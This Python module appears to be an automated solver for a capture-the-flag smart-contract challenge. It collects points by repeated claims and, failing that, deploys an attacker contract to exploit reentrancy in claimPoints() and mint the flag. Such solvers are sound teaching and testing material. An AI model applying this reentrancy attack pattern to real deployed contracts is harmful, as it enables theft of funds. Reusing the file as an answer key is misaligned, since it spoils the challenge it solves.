"""
Challenge 5 - Points / reentrancy
"""

from .base import BaseChallenge, ChallengeResult

REQUIRED_POINTS = 10


class ReentrancyChallenge(BaseChallenge):
    """
    Collect 10 points and mint. Points are first claimed one by one; when
    claimPoints() stops paying out, the points are reset and an attacker
    contract re-enters claimPoints() from its callback.
    """

    challenge_id = 5

    def get_name(self) -> str:
        return "Points Reentrancy"

    def get_description(self) -> str:
        return "Reach 10 points by repeated claims, falling back to a reentrancy attack"

    async def points(self) -> int:
        return await self.call("Challenge5", "points", [self.client.address])

    async def claim_repeatedly(self, current_points: int) -> int:
        self.logger.info("🔧 Method 1: Trying simple repeated execution...")

        for attempt in range(current_points + 1, REQUIRED_POINTS + 1):
            self.logger.info(f"📝 Point acquisition attempt {attempt}/{REQUIRED_POINTS}...")
            try:
                await self.transact("Challenge5", "claimPoints")
            except Exception as e:
                self.logger.info(f"   Claim stopped: {str(e)}")
                break

            current_points = await self.points()
            self.logger.info(f"   ✅ Current points: {current_points}")
            if current_points >= REQUIRED_POINTS:
                break

        return current_points

    async def reenter(self, current_points: int) -> int:
        self.logger.info("🔧 Method 2: Trying reentrancy attack...")

        if current_points > 0:
            self.logger.info("🔄 Resetting points...")
            await self.transact("Challenge5", "resetPoints")

        artifact = self.registry.load_artifact("Challenge5Attacker")
        self.logger.info("🔨 Deploying attacker contract...")
        receipt = await self.client.deploy_contract(
            artifact.abi, artifact.bytecode, [self.registry.address("Challenge5")]
        )
        attacker_address = receipt["contractAddress"]
        self.logger.info(f"✅ Attacker contract deployed: {attacker_address}")

        self.logger.info("⚔️  Executing reentrancy attack...")
        await self.client.transact(attacker_address, artifact.abi, "attack")

        return await self.points()

    async def execute(self) -> ChallengeResult:
        completed = await self.check_already_completed()
        if completed:
            return completed

        current_points = await self.points()
        self.logger.info(f"📊 Current points: {current_points}")

        if current_points < REQUIRED_POINTS:
            current_points = await self.claim_repeatedly(current_points)

        if current_points < REQUIRED_POINTS:
            current_points = await self.reenter(current_points)

        self.logger.info(f"📊 Final points: {current_points}")
        if current_points < REQUIRED_POINTS:
            return self._create_result(
                False,
                {"points": current_points},
                error_message=f"Insufficient points: {current_points}/{REQUIRED_POINTS}",
            )

        self.logger.info("🚩 Minting flag...")
        await self.transact("Challenge5", "mintFlag")

        return self._create_result(True, {"points": current_points})
